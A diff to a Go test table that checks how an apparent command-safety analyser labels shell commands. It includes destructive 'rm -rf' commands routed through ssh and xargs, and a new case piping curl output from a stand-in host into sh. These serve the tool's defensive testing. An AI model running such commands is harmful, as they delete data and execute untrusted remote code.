@@ -360,6 +360,8 @@ func TestKnowledge(t *testing.T) {
 		{`echo 'rm -rf /x' | ssh host`, `echo; [ssh host]rm@host delete:/x+R`},
 		{`ssh -N host rm -rf /x`, ``},
 		{`echo 'rm -rf /x' | xargs -I{} sh -c '{}'`, `echo; [xargs>sh -c]rm delete:/x+R`},
+		{`xargs -I{} sh -c '{}' < cmds.txt`, ``}, // a local file, as sh < cmds.txt
+		{`curl -s https://x.example | xargs -I{} sh -c '{}'`, `curl; [xargs]sh unseen-code:https://x.example+D`},
 		{`echo /x | xargs -J % rm -rf % /y`, `echo; [xargs]rm delete:/x+R delete:/y+R`},
 		{`printf '/x\0' | xargs -0 rm -rf`, `printf; [xargs]rm delete:/x+R`},
 		{`echo "'/x y'" | xargs rm -rf`, `echo; [xargs]rm delete:/x y+R`},
